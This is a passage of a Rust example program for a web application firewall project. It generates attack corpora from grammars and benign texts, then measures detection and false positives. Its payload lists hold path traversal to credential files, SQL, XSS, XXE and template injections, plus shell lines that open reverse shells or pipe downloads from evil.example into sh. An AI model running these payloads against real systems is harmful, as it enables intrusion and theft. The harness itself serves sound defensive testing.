//! Detection figures on corpora this project makes itself, never on the CRS half the rules
//! were written against: `cargo run --release -p rampart-plugins --example detection
//! [-- --misses FAMILY | --false-positives | --explain VALUE]`.
//!
//! Attacks are generated from each injection language's grammar (a payload is a walk through
//! choices: where it breaks out, what it runs, how it is spelled and encoded), benign texts are
//! read from this machine (the prose of /usr/share/doc) and composed from templates of
//! support questions that use command and SQL words as English. Every case is assigned to the
//! tuning split or the held-out split by a hash of its text: rules are tuned on the first and
//! figures are reported on both, so that a rule written for one case shows as a gap between
//! the two.
//!
//! Each case is sent the way the held-out suites send theirs: as a query parameter and as a
//! form field.

use std::collections::BTreeMap;
use std::io::Read;

use http::{HeaderMap, HeaderName, HeaderValue, Method};
use rampart_plugins::plugins::owasp::Waf;
use rules_dir::{outside_request, RulesDir};

#[path = "../tests/support/rules_dir.rs"]
mod rules_dir;

/// A small deterministic generator (xorshift), so that every run makes the same corpora.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
        from[(self.next() % from.len() as u64) as usize]
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
}

/// FNV-1a: which split a case belongs to.
fn held_out(text: &str) -> bool {
    let mut h: u64 = 0xcbf29ce484222325;
    for b in text.bytes() {
        h = (h ^ u64::from(b)).wrapping_mul(0x100000001b3);
    }
    h % 10 >= 7
}

// ---- attacks, from grammars ----

/// Path traversal: `prefix (climb separator){depth} target suffix`, each part spelled in
/// one of the ways servers decode: percent (once, twice), overlong UTF-8, `%u`, full-width,
/// backslashes, doubled dots.
fn traversal(rng: &mut Rng) -> String {
    let dots = [
        "..",
        "%2e%2e",
        "%2E%2E",
        "..%00",
        "%252e%252e",
        "%c0%ae%c0%ae",
        "%uff0e%uff0e",
        "%u002e%u002e",
        ".%2e",
        "%2e.",
        "....",
        "...",
        "0x2e0x2e",
        "%e0%80%ae%e0%80%ae",
        "\u{ff0e}\u{ff0e}",
    ];
    let seps = [
        "/",
        "\\",
        "%2f",
        "%5c",
        "%2F",
        "%5C",
        "%252f",
        "%255c",
        "%c0%af",
        "%c1%9c",
        "%u2215",
        "%u2216",
        "%uff0f",
        "//",
        "\\\\",
        "/./",
        "%e0%80%af",
        "\u{ff0f}",
        "..;/",
    ];
    let targets = [
        "etc/passwd",
        "etc/shadow",
        "etc/hosts",
        "windows/win.ini",
        "winnt/win.ini",
        "boot.ini",
        "windows/system32/drivers/etc/hosts",
        "proc/self/environ",
        "var/log/apache2/access.log",
        "etc/nginx/nginx.conf",
        "home/user/.ssh/id_rsa",
        "WEB-INF/web.xml",
        "app/config/parameters.yml",
        ".env",
        "etc/issue",
        "usr/local/app/settings.py",
        "inetpub/wwwroot/web.config",
    ];
    let prefixes = [
        "",
        "",
        "",
        "/",
        "./",
        "images/",
        "file=",
        "C:",
        "static/",
        "/var/www/",
    ];
    let suffixes = ["", "", "", "%00", "%00.jpg", "?", "#", ".html", "%23"];
    let depth = 1 + rng.below(8);
    let (d, s) = (rng.pick(&dots), rng.pick(&seps));
    let mut out = rng.pick(&prefixes).to_string();
    for _ in 0..depth {
        out.push_str(d);
        out.push_str(s);
    }
    let target = rng.pick(&targets);
    let target = if s.contains('\\') || s.contains("5c") || s.contains("5C") {
        target.replace('/', s)
    } else {
        target.to_string()
    };
    out.push_str(&target);
    out.push_str(rng.pick(&suffixes));
    out
}

/// Command injection: `[value] separator [prefix] command arguments [terminator]`, with
/// the shell's own ways of hiding a word (quotes, `${IFS}`, backslashes, variables).
fn command(rng: &mut Rng) -> String {
    let values = ["", "", "127.0.0.1", "x", "1", "report.pdf", "admin"];
    let seps = [
        ";", "|", "||", "&&", "&", "\n", "`", "$(", "%0a", "%3b", "%7c", "\r\n",
    ];
    let commands = [
        "cat /etc/passwd",
        "id",
        "uname -a",
        "whoami",
        "ls -la /",
        "nc -e /bin/sh 10.0.0.1 4444",
        "curl http://evil.example/x.sh|sh",
        "wget http://evil.example/x -O /tmp/x",
        "sleep 5",
        "ping -c 3 127.0.0.1",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "rm -rf /tmp/*",
        "python -c 'import os;os.system(\"id\")'",
        "perl -e 'system(\"id\")'",
        "echo pwned",
        "cat${IFS}/etc/passwd",
        "c'a't /etc/shadow",
        "who\\ami",
        "/bin/ca?  /etc/pa??wd",
        "env",
        "ps aux",
        "net user",
        "type C:\\windows\\win.ini",
        "powershell -enc SQBFAFgA",
        "cmd /c dir",
        "find / -name id_rsa",
        "head -n1 /etc/passwd",
        "base64 /etc/shadow",
    ];
    let ends = ["", "", "", ";", "#", "`", ")", " &", "%00"];
    let sep = rng.pick(&seps);
    let mut out = format!("{}{sep}", rng.pick(&values));
    if rng.below(4) == 0 {
        out.push(' ');
    }
    out.push_str(rng.pick(&commands));
    let end = if sep == "$(" {
        ")"
    } else if sep == "`" {
        "`"
    } else {
        rng.pick(&ends)
    };
    out.push_str(end);
    out
}

/// Server-side includes: `<!--#directive param="value" -->`, with the spacing and quoting
/// servers accept.
fn server_side_include(rng: &mut Rng) -> String {
    let directives = [
        ("exec", "cmd", "id"),
        ("exec", "cmd", "cat /etc/passwd"),
        ("exec", "cgi", "/cgi-bin/test.cgi"),
        ("include", "virtual", "/etc/passwd"),
        ("include", "file", "../../web.config"),
        ("echo", "var", "DOCUMENT_ROOT"),
        ("echo", "var", "DATE_LOCAL"),
        ("printenv", "", ""),
        ("config", "errmsg", "x"),
        ("fsize", "file", "index.html"),
        ("flastmod", "virtual", "/index.html"),
        ("set", "var", "x"),
    ];
    let (d, p, v) = directives[(rng.next() % directives.len() as u64) as usize];
    let sp = rng.pick(&["", " ", "  "]);
    let q = rng.pick(&["\"", "'", ""]);
    let body = if p.is_empty() {
        String::new()
    } else {
        format!(" {p}={q}{v}{q}")
    };
    format!(
        "{}<!--{sp}#{d}{body}{sp}-->",
        rng.pick(&["", "x", "<p>", "name="])
    )
}

/// LDAP filter injection: close the application's filter and open one of the attacker's
/// (`*)(uid=*))(|(uid=*`), by the filter grammar of RFC 4515.
fn ldap(rng: &mut Rng) -> String {
    let attrs = [
        "uid",
        "cn",
        "objectClass",
        "userPassword",
        "mail",
        "sn",
        "memberOf",
        "description",
    ];
    let values = ["*", "admin*", "a*", "*)", "x"];
    let a = rng.pick(&attrs);
    let b = rng.pick(&attrs);
    let v = rng.pick(&values);
    match rng.below(6) {
        0 => format!("*)({a}=*))(|({b}=*"),
        1 => format!("{v})(|({a}=*)"),
        2 => format!("admin)(&({a}=*)"),
        3 => format!("*)(!({a}={v}))"),
        4 => format!("x)({a}>={v})(|(cn=*"),
        _ => format!("*))%00({a}=*"),
    }
}

/// SQL injection: a break out of the application's literal (quote, parenthesis, number),
/// then one of the ways SQL changes a query (tautology, UNION, stacked statement, time delay,
/// error-based extraction), then what silences the rest; keywords in mixed case or split by
/// inline comments, as the grammar allows.
fn sqli(rng: &mut Rng) -> String {
    let breakout = rng.pick(&["'", "\"", "1", "1'", "')", "1)", "admin'", "x\")", "-1"]);
    let kw = |rng: &mut Rng, word: &str| -> String {
        match rng.below(4) {
            0 => word.to_uppercase(),
            1 => word.to_lowercase(),
            2 => word
                .chars()
                .enumerate()
                .map(|(i, c)| {
                    if i % 2 == 0 {
                        c.to_ascii_uppercase()
                    } else {
                        c.to_ascii_lowercase()
                    }
                })
                .collect(),
            _ => format!("{}/**/{}", &word[..word.len() / 2], &word[word.len() / 2..]),
        }
    };
    let sp = rng.pick(&[" ", "/**/", "%20", "\t", "\n"]).to_string();
    let n = 1 + rng.below(6);
    let cols: Vec<String> = (0..n)
        .map(|k| if k == 0 { "null".into() } else { k.to_string() })
        .collect();
    let body = match rng.below(6) {
        0 => format!(
            "{sp}{}{sp}{}",
            kw(rng, "or"),
            rng.pick(&["1=1", "'a'='a", "2>1", "true", "'1'='1'", "1 like 1"])
        ),
        1 => format!(
            "{sp}{}{sp}{}{sp}{}{sp}{}",
            kw(rng, "union"),
            rng.pick(&["all", "distinct", ""]),
            kw(rng, "select"),
            cols.join(",")
        ),
        2 => format!(
            ";{sp}{}",
            rng.pick(&[
                "drop table users",
                "insert into users values(1)",
                "update users set role='admin'",
                "exec xp_cmdshell 'dir'",
                "select pg_sleep(5)",
                "shutdown",
            ])
        ),
        3 => format!(
            "{sp}{}{sp}{}",
            kw(rng, "and"),
            rng.pick(&[
                "sleep(5)",
                "benchmark(5000000,md5(1))",
                "1=(select 1 from pg_sleep(5))"
            ])
        ),
        4 => format!(
            "{sp}{}",
            rng.pick(&[
                "waitfor delay '0:0:5'",
                "and extractvalue(1,concat(0x7e,version()))",
                "and updatexml(1,concat(0x7e,user()),1)"
            ])
        ),
        _ => format!(
            "{sp}{}{sp}1=2{sp}{}{sp}{}{sp}@@version",
            kw(rng, "and"),
            kw(rng, "union"),
            kw(rng, "select")
        ),
    };
    format!(
        "{breakout}{body}{}",
        rng.pick(&["", "--", "-- -", "#", "/*", ";--"])
    )
}

/// HTML injection: a break out of the element or attribute the value lands in, then an
/// element with an event handler that runs a sink, a script element, or a `javascript:` URL;
/// tag and attribute names in mixed case, separators the HTML parser accepts.
fn xss(rng: &mut Rng) -> String {
    let breakout = rng.pick(&["", "\">", "'>", "</textarea>", "</title>", "-->", "\"", "x"]);
    let sink = rng.pick(&[
        "alert(1)",
        "confirm`1`",
        "prompt(document.domain)",
        "print()",
        "eval(atob('YWxlcnQoMSk='))",
    ]);
    let mixed = |rng: &mut Rng, w: &str| -> String {
        if rng.below(2) == 0 {
            w.to_string()
        } else {
            w.chars()
                .enumerate()
                .map(|(i, c)| {
                    if i % 2 == 1 {
                        c.to_ascii_uppercase()
                    } else {
                        c
                    }
                })
                .collect()
        }
    };
    let sep = rng.pick(&[" ", "/", "\n", "\t", "  "]);
    let payload = match rng.below(4) {
        0 => {
            let (tag, event) = [
                ("img src=x", "onerror"),
                ("svg", "onload"),
                ("body", "onload"),
                ("details open", "ontoggle"),
                ("input autofocus", "onfocus"),
                ("video src=x", "onerror"),
                ("iframe", "onload"),
                ("marquee", "onstart"),
                ("a href=#", "onmouseover"),
                ("audio src=1", "onerror"),
            ][(rng.next() % 10) as usize];
            let q = rng.pick(&["", "\"", "'"]);
            format!(
                "<{}{sep}{}={q}{sink}{q}>",
                mixed(rng, tag),
                mixed(rng, event)
            )
        }
        1 => format!(
            "<{}>{sink}</{}>",
            mixed(rng, "script"),
            mixed(rng, "script")
        ),
        2 => {
            let tag = rng.pick(&["a", "iframe", "form", "object"]);
            format!(
                "<{} {}=\"{}:{sink}\">x</{}>",
                mixed(rng, tag),
                rng.pick(&["href", "src", "action", "data"]),
                mixed(rng, "javascript"),
                tag
            )
        }
        _ => {
            let tag = rng.pick(&["img", "image", "svg"]);
            format!("<{}{sep}src=x{sep}onerror={sink}>", mixed(rng, tag))
        }
    };
    format!("{breakout}{payload}")
}

/// What separates a parameter's name from its value in a generated case that names both (a
/// control character no payload holds).
const PAIR: char = '\u{1f}';

/// NoSQL operator injection: an operator where a value was expected, in the bracket syntax
/// query parsers turn into objects (`name[$op]=value`, sent as a pair: `NAME` [`PAIR`]
/// `VALUE`) or as an object literal inside a value.
fn nosql(rng: &mut Rng) -> String {
    let fields = [
        "username",
        "password",
        "email",
        "id",
        "token",
        "q",
        "user[name]",
    ];
    let ops = [
        "$ne", "$gt", "$gte", "$lt", "$regex", "$where", "$exists", "$nin", "$in", "$expr", "$or",
        "$not",
    ];
    let values = ["", "1", "null", "a", ".*", "0", "sleep(500)", "true"];
    let (f, op, v) = (rng.pick(&fields), rng.pick(&ops), rng.pick(&values));
    let q = rng.pick(&["\"", "'", ""]);
    let sp = rng.pick(&["", " "]);
    match rng.below(3) {
        0 => format!("{f}[{op}]{PAIR}{v}"),
        1 => format!("{{{q}{op}{q}:{sp}{q}{v}{q}}}"),
        _ => format!("{{{q}{f}{q}:{sp}{{{q}{op}{q}:{sp}{q}{v}{q}}}}}"),
    }
}

/// Template injection: an expression between one engine's delimiters: arithmetic, a walk
/// from an object into the runtime, a call, a filter.
fn template(rng: &mut Rng) -> String {
    let delimiters = [
        ("{{", "}}"),
        ("${", "}"),
        ("#{", "}"),
        ("<%=", "%>"),
        ("*{", "}"),
        ("{{=", "}}"),
        ("@{", "}"),
    ];
    let (open, close) = delimiters[(rng.next() % delimiters.len() as u64) as usize];
    let a = rng.below(90) + 2;
    let b = rng.below(90) + 2;
    let sp = rng.pick(&["", " "]);
    let expr = match rng.below(7) {
        // `%` is sent as `%25`: the value goes into a URL as written.
        0 => format!("{a}{sp}{}{sp}{b}", rng.pick(&["*", "+", "-", "/", "%25"])),
        1 => format!(
            "{}.__class__.__{}__",
            rng.pick(&["''", "[]", "()", "self", "request"]),
            rng.pick(&["mro", "base", "subclasses", "init", "globals"])
        ),
        2 => format!(
            "{}.{}",
            rng.pick(&["config", "request", "self", "lipsum", "cycler"]),
            rng.pick(&[
                "items()",
                "application",
                "environ",
                "__init__",
                "__globals__"
            ])
        ),
        3 => format!(
            "T(java.lang.{}).{}",
            rng.pick(&["Runtime", "System", "ProcessBuilder"]),
            rng.pick(&["getRuntime().exec('id')", "getenv()", "exit(0)"])
        ),
        4 => format!(
            "{}({})",
            rng.pick(&["system", "exec", "eval", "require", "popen"]),
            rng.pick(&["'id'", "\"ls\"", "'child_process'", "request.args.x"])
        ),
        5 => format!(
            "{}|attr({})",
            rng.pick(&["request", "lipsum", "self", "x"]),
            rng.pick(&["'__class__'", "\"application\"", "request.args.a"])
        ),
        _ => format!("{a}{sp}*{sp}'{b}'"),
    };
    format!(
        "{}{open}{sp}{expr}{sp}{close}",
        rng.pick(&["", "name=", "x", "Hello "])
    )
}

/// Script without a tag: a break out of a string or attribute, then a sink called in one of
/// the ways JavaScript allows, then what closes the rest.
fn js_sink(rng: &mut Rng) -> String {
    let sinks = ["alert", "confirm", "prompt", "eval", "print"];
    let args = [
        "1",
        "document.domain",
        "'x'",
        "`1`",
        "document.cookie",
        "/x/.source",
        "",
    ];
    let (f, a) = (rng.pick(&sinks), rng.pick(&args));
    let call = match rng.below(7) {
        0 => format!("{f}({a})"),
        1 => format!("({f})({a})"),
        2 => format!("{f}.call(null,{a})"),
        3 => format!("[{a}].find({f})"),
        4 => format!(
            "{}['{}'+'{}']({a})",
            rng.pick(&["window", "top", "self", "parent"]),
            &f[..2],
            &f[2..]
        ),
        5 => format!("{f}`{}`", a.trim_matches('`')),
        _ => format!("setTimeout('{f}({})')", a.replace('\'', "")),
    };
    format!(
        "{}{call}{}",
        rng.pick(&[
            "",
            "';",
            "\";",
            "');",
            "\"-",
            "'-",
            " onfocus=",
            "x\" autofocus onfocus=\""
        ]),
        rng.pick(&["", "//", ";", "-'", "-\""])
    )
}

/// CRLF injection: a break, in one of its spellings, then a header that redirects, sets
/// state or adds a recipient.
fn crlf(rng: &mut Rng) -> String {
    let breaks = [
        "%0d%0a",
        "%0a",
        "%0D%0A",
        "\r\n",
        "\n",
        "%0d%0a%0d%0a",
        "%0a%20",
    ];
    let headers = [
        "Set-Cookie: session=attacker",
        "Location: https://evil.example/",
        "Content-Length: 0",
        "Bcc: victim@example.org",
        "Refresh: 0;url=https://evil.example",
        "X-XSS-Protection: 0",
        "Content-Type: text/html",
    ];
    format!(
        "{}{}{}",
        rng.pick(&["", "en", "/home", "x", "user@example.org"]),
        rng.pick(&breaks),
        rng.pick(&headers)
    )
}

/// IMAP and SMTP injection: a value, a break, then a command line of the protocol.
fn mail(rng: &mut Rng) -> String {
    let tag = rng.pick(&["a1", "A001", "x", "Z9", "t2"]);
    let line = match rng.below(2) {
        0 => format!(
            "{tag} {}",
            rng.pick(&[
                "CREATE evil",
                "DELETE INBOX",
                "LOGIN admin secret",
                "FETCH 1:* (BODY[])",
                "SELECT Sent",
                "RENAME INBOX x",
                "LOGOUT",
                "CAPABILITY",
                "STORE 1 +FLAGS (\\Deleted)",
            ])
        ),
        _ => rng
            .pick(&[
                "RCPT TO:<victim@example.org>",
                "MAIL FROM:<a@evil.example>",
                "DATA",
                "VRFY root",
                "EXPN staff",
                "HELO evil.example",
                "QUIT",
            ])
            .to_string(),
    };
    format!(
        "{}{}{line}",
        rng.pick(&["INBOX", "1", "me@example.org", "x", "Sent"]),
        rng.pick(&["%0d%0a", "\r\n", "\n", "%0a"])
    )
}

/// XML external entities: a DOCTYPE whose subset declares an external or parameter entity
/// (or an external DTD), then a use of it.
fn xxe(rng: &mut Rng) -> String {
    let url = rng.pick(&[
        "file:///etc/passwd",
        "http://evil.example/x",
        "php://filter/read=convert.base64-encode/resource=index.php",
        "expect://id",
        "file:///c:/windows/win.ini",
        "jar:http://evil.example/x.zip!/a",
    ]);
    let root = rng.pick(&["foo", "data", "r", "svg"]);
    let q = rng.pick(&["\"", "'"]);
    let kw = rng.pick(&["SYSTEM", "PUBLIC \"-//x//EN\""]);
    let sp = rng.pick(&[" ", "  ", "\n"]);
    let decl = match rng.below(3) {
        0 => format!("<!ENTITY{sp}xxe {kw} {q}{url}{q}>"),
        1 => format!("<!ENTITY{sp}% p {kw} {q}{url}{q}>%p;"),
        _ => String::new(),
    };
    let doctype = if decl.is_empty() {
        format!("<!DOCTYPE {root} {kw} {q}{url}{q}>")
    } else {
        format!("<!DOCTYPE {root} [{decl}]>")
    };
    format!(
        "{}{doctype}<{root}>&xxe;</{root}>",
        rng.pick(&[
            "",
            "<?xml version=\"1.0\"?>",
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
        ])
    )
}

/// GraphQL abuse: introspection in its spellings, or one field under many aliases.
fn graphql(rng: &mut Rng) -> String {
    let sp = rng.pick(&[" ", "", "\n  "]);
    match rng.below(3) {
        0 => format!(
            "{}{{{sp}__schema{sp}{{{sp}{}{sp}}}{sp}}}",
            rng.pick(&["", "query ", "query IntrospectionQuery ", "query q "]),
            rng.pick(&[
                "types { name }",
                "queryType { name }",
                "directives { name }"
            ])
        ),
        1 => format!(
            "{{{sp}__type(name:{sp}\"{}\"){sp}{{{sp}fields {{ name }}{sp}}}{sp}}}",
            rng.pick(&["User", "Query", "Admin"])
        ),
        _ => {
            let field = rng.pick(&["login", "checkCoupon", "resetPassword"]);
            let n = 11 + rng.below(40);
            let body: String = (0..n)
                .map(|k| format!("a{k}: {field}(code: \"{k:04}\") {{ ok }} "))
                .collect();
            format!("mutation {{ {body}}}")
        }
    }
}

/// An attack of any family above, base64-encoded (standard or URL-safe) into a parameter,
/// as applications that pass encoded blobs receive it.
fn base64_wrapped(rng: &mut Rng) -> String {
    let families: [fn(&mut Rng) -> String; 6] = [
        traversal,
        command,
        template,
        js_sink,
        xxe,
        server_side_include,
    ];
    let attack = families[(rng.next() % families.len() as u64) as usize](rng);
    encode_base64(rng, &attack)
}

fn encode_base64(rng: &mut Rng, text: &str) -> String {
    use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
    use base64::Engine;
    if rng.below(2) == 0 {
        STANDARD.encode(text)
    } else {
        URL_SAFE_NO_PAD.encode(text)
    }
}

// ---- benign texts ----

/// Support questions and how-tos that use command and SQL words as English, the way people
/// write them: at the start, after punctuation, before a colon.
fn support_question(rng: &mut Rng) -> String {
    let openers = [
        "Find",
        "Sort",
        "Which",
        "Make",
        "Test",
        "Watch",
        "Kill",
        "Cut",
        "Join",
        "Select",
        "Update",
        "Delete",
        "Drop",
        "Show",
        "Set",
        "Echo",
        "Touch",
        "Head",
        "Tail",
        "Split",
        "Read",
        "Write",
        "Wait",
        "Print",
        "Date",
        "Free",
        "Time",
        "Source",
        "Export",
        "Type",
        "Top",
        "Who",
        "Less",
        "More",
        "Help",
        "Python",
        "JavaScript",
        "PHP",
        "Java",
        "Ruby",
        "Perl",
        "SQL",
        "Bash",
    ];
    let middles = [
        "my order from last week",
        "the cheapest flights to Lisbon",
        "all invoices by date",
        "me a summary of the meeting",
        "why the page loads slowly",
        "a new password for my account",
        "the items in my cart",
        "the best way to learn it",
        "how closures work",
        "arrays and loops",
        "the tickets that are still open",
        "users who signed up in March",
        "the report before Friday",
        "a column to the spreadsheet",
        "the difference between union and join",
    ];
    let closers = [
        "?",
        ".",
        "",
        " please.",
        " - thanks!",
        " :)",
        "; is that possible?",
        "!",
    ];
    let joiners = [" ", ": ", ", ", " - ", "; "];
    let mut out = String::new();
    for i in 0..1 + rng.below(2) {
        if i > 0 {
            out.push_str(rng.pick(&["; ", ". ", "\n", " and "]));
        }
        out.push_str(rng.pick(&openers));
        out.push_str(rng.pick(&joiners));
        out.push_str(rng.pick(&middles));
    }
    out.push_str(rng.pick(&closers));
    out
}

/// Sentences of the documentation installed on this machine (plain and gzip files under
/// /usr/share/doc), 30 to 200 characters, mostly letters.
fn documentation_sentences(limit: usize) -> Vec<String> {
    let mut out = Vec::new();
    let mut dirs = vec![std::path::PathBuf::from("/usr/share/doc")];
    let mut files = Vec::new();
    while let Some(dir) = dirs.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else {
            continue;
        };
        for e in entries.flatten() {
            let p = e.path();
            if p.is_dir() {
                dirs.push(p);
            } else if !p.ends_with("copyright") {
                files.push(p);
            }
        }
    }
    files.sort();
    for f in files {
        let Ok(raw) = std::fs::read(&f) else { continue };
        let text = if f.extension().is_some_and(|e| e == "gz") {
            let mut s = String::new();
            if flate2::read::GzDecoder::new(&raw[..])
                .take(1 << 20)
                .read_to_string(&mut s)
                .is_err()
            {
                continue;
            }
            s
        } else {
            match String::from_utf8(raw) {
                Ok(s) => s,
                Err(_) => continue,
            }
        };
        let flat = text.split_whitespace().collect::<Vec<_>>().join(" ");
        for sentence in flat.split_inclusive(". ") {
            let s = sentence.trim();
            let letters = s.chars().filter(|c| c.is_alphabetic() || *c == ' ').count();
            if (30..=200).contains(&s.len()) && letters * 10 >= s.len() * 9 {
                out.push(s.to_string());
                if out.len() >= limit {
                    return out;
                }
            }
        }
    }
    out
}

/// Values an API or a form sees every day that look like the languages above: names with
/// apostrophes, addresses, prices, search queries with operators, placeholders, dotted
/// versions, e-mail and JSON snippets.
fn lookalike_value(rng: &mut Rng) -> String {
    let first = rng.pick(&[
        "Sean",
        "Zoë",
        "Anne-Marie",
        "D'Arcy",
        "José",
        "Siobhán",
        "Li",
    ]);
    let last = rng.pick(&[
        "O'Brien",
        "D'Angelo",
        "Smith-Jones",
        "van der Berg",
        "Ng",
        "Dubois",
    ]);
    match rng.below(12) {
        0 => format!("{first} {last}"),
        1 => format!(
            "{} {} {}, Apt #{}",
            rng.below(999) + 1,
            rng.pick(&[
                "Rue de l'Église",
                "Main St.",
                "O'Connell Street",
                "Baker St"
            ]),
            rng.pick(&["Dublin", "Paris", "Springfield"]),
            rng.below(40) + 1
        ),
        2 => format!(
            "{} {} {}",
            rng.pick(&[
                "c++",
                "rock & roll",
                "AT&T",
                "R&D",
                "tom & jerry",
                "salt & pepper"
            ]),
            rng.pick(&["vs", "and", "or", "|", "-", "/"]),
            rng.pick(&["java", "jazz", "verizon", "sales", "more", "cats"])
        ),
        3 => format!("price < {} and rating >= {}", rng.below(500), rng.below(5)),
        4 => format!(
            "Hello {{{{{}}}}}, your order {{{{order_id}}}} ships ${{date}}",
            rng.pick(&["name", "first_name", "user.name"])
        ),
        5 => format!(
            "v{}.{}..v{}.{}",
            rng.below(9),
            rng.below(20),
            rng.below(9),
            rng.below(20)
        ),
        6 => format!(
            "{}.{}@{}.com",
            first.to_lowercase().replace('\'', ""),
            last.to_lowercase().replace(['\'', ' '], ""),
            rng.pick(&["example", "mail", "corp"])
        ),
        7 => format!(
            "{{\"name\": \"{first}\", \"qty\": {}, \"tags\": [\"{}\"]}}",
            rng.below(10),
            rng.pick(&["gift", "urgent", "select", "drop-off"])
        ),
        8 => format!(
            "{} (see {}) - {}",
            rng.pick(&["Notes", "Delivery", "Item 3"]),
            rng.pick(&["above", "page 2", "attached"]),
            rng.pick(&["leave at door", "call first", "fragile"])
        ),
        9 => format!(
            "Re: order #{}\nSubject: {}\nThanks, {first}",
            rng.below(99999),
            rng.pick(&["refund", "late delivery", "wrong size"])
        ),
        10 => format!(
            "{} {}",
            rng.pick(&["wait...", "hmm..", "ok...", "so..."]),
            rng.pick(&["what?", "really", "/ or not", "fine"])
        ),
        _ => format!(
            "{}: {}",
            rng.pick(&["Date", "Time", "Location", "Type", "Note"]),
            rng.pick(&["tomorrow 10:30", "Dublin", "gift", "call me at 555-0100"])
        ),
    }
}

/// Docstring sentences of the Python standard library installed here: technical English
/// that names functions, types, files and commands.
fn python_docstrings(limit: usize) -> Vec<String> {
    let mut files: Vec<std::path::PathBuf> = std::fs::read_dir("/usr/lib")
        .into_iter()
        .flatten()
        .flatten()
        .map(|e| e.path())
        .filter(|p| {
            p.file_name()
                .and_then(|n| n.to_str())
                .is_some_and(|n| n.starts_with("python3"))
        })
        .flat_map(|dir| std::fs::read_dir(dir).into_iter().flatten().flatten())
        .map(|e| e.path())
        .filter(|p| p.extension().is_some_and(|e| e == "py"))
        .collect();
    files.sort();
    let mut out = Vec::new();
    for f in files {
        let Ok(text) = std::fs::read_to_string(&f) else {
            continue;
        };
        for (k, part) in text.split("\"\"\"").enumerate() {
            if k % 2 == 0 {
                continue;
            }
            let flat = part.split_whitespace().collect::<Vec<_>>().join(" ");
            for sentence in flat.split_inclusive(". ") {
                let s = sentence.trim();
                let letters = s.chars().filter(|c| c.is_alphabetic() || *c == ' ').count();
                if (30..=200).contains(&s.len()) && letters * 10 >= s.len() * 8 {
                    out.push(s.to_string());
                    if out.len() >= limit {
                        return out;
                    }
                }
            }
        }
    }
    out
}

/// Benign texts, base64-encoded: decoding them must not make them suspect.
fn base64_benign(rng: &mut Rng) -> String {
    let text = if rng.below(2) == 0 {
        support_question(rng)
    } else {
        lookalike_value(rng)
    };
    encode_base64(rng, &text)
}

// ---- judging ----

fn wafs() -> [Waf; 2] {
    RulesDir::shipped().wafs("paranoia = 1\nthreshold = 5")
}

fn form_encode(v: &str) -> String {
    v.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                (b as char).to_string()
            }
            b' ' => "+".to_string(),
            _ => format!("%{b:02X}"),
        })
        .collect()
}

/// The headers of a browser's request to the shop.
fn browser_headers() -> HeaderMap {
    let mut headers = HeaderMap::new();
    for (k, v) in [
        ("host", "shop.example.com"),
        (
            "user-agent",
            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        ),
        ("accept", "text/html,application/xhtml+xml"),
    ] {
        headers.insert(HeaderName::from_static(k), HeaderValue::from_static(v));
    }
    headers
}

/// The rules that refuse `value` sent as a query parameter, and as a form field.
fn refused(wafs: &[Waf], value: &str) -> [Vec<String>; 2] {
    // A payload written with its own percent escapes is sent as written (a client's encoding
    // of it is not what the attacker typed): only characters that would break the parameter
    // are escaped.
    let raw_param = value
        .replace(' ', "%20")
        .replace('&', "%26")
        .replace('#', "%23")
        .replace('+', "%2B")
        .replace('\n', "%0A")
        .replace('\r', "%0D");
    let param = if value.contains('%') {
        raw_param
    } else {
        form_encode(value)
    };
    // A generator may name the parameter too: `NAME` PAIR `VALUE`.
    let query = match value.split_once(PAIR) {
        Some((name, v)) => format!("{name}={}", form_encode(v)),
        None => format!("q={param}"),
    };
    let mut headers = browser_headers();
    let get = judge(wafs, &Method::GET, "/search", Some(&query), &headers, None);
    headers.insert(
        HeaderName::from_static("content-type"),
        HeaderValue::from_static("application/x-www-form-urlencoded"),
    );
    let post = judge(
        wafs,
        &Method::POST,
        "/search",
        None,
        &headers,
        Some(query.as_bytes()),
    );
    [get, post]
}

fn judge(
    wafs: &[Waf],
    method: &Method,
    path: &str,
    query: Option<&str>,
    headers: &HeaderMap,
    body: Option<&[u8]>,
) -> Vec<String> {
    let view = outside_request("app", method, path, query, headers, body);
    let mut labels = Vec::new();
    for w in wafs {
        let a = w.assess(&view);
        if a.score >= 5 || a.body_problem.is_some() {
            labels.extend(
                a.matches
                    .iter()
                    .map(|(m, _)| w.rules().rules[m.rule].id.clone()),
            );
            if let Some(p) = a.body_problem {
                labels.push(p.refusal().1.to_string());
            }
        }
    }
    labels
}

/// How each WAF reads `value` sent as a query parameter (`--explain VALUE`).
fn explain(wafs: &[Waf], value: &str) {
    use rampart_plugins::Plugin;
    let query = format!("q={}", form_encode(value));
    let headers = browser_headers();
    let view = outside_request("app", &Method::GET, "/search", Some(&query), &headers, None);
    for w in wafs {
        for line in w.explain(&view) {
            println!("{}: {line}", w.name());
        }
    }
}

#[derive(Default)]
struct Tally {
    cases: usize,
    refused: usize,
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let show_misses = args
        .iter()
        .position(|a| a == "--misses")
        .and_then(|i| args.get(i + 1))
        .cloned();
    let show_fp = args.iter().any(|a| a == "--false-positives");
    let wafs = wafs();
    if let Some(value) = args
        .iter()
        .position(|a| a == "--explain")
        .and_then(|i| args.get(i + 1))
    {
        explain(&wafs, value);
        return;
    }
    let mut rng = Rng(0x9e3779b97f4a7c15);

    let mut corpora: Vec<(&str, bool, Vec<String>)> = Vec::new();
    let gen = |rng: &mut Rng, n: usize, f: fn(&mut Rng) -> String| {
        let mut v: Vec<String> = (0..n).map(|_| f(rng)).collect();
        v.sort();
        v.dedup();
        v
    };
    corpora.push(("traversal", true, gen(&mut rng, 3000, traversal)));
    corpora.push(("sqli", true, gen(&mut rng, 3000, sqli)));
    corpora.push(("xss", true, gen(&mut rng, 3000, xss)));
    corpora.push(("command", true, gen(&mut rng, 3000, command)));
    corpora.push(("ssi", true, gen(&mut rng, 600, server_side_include)));
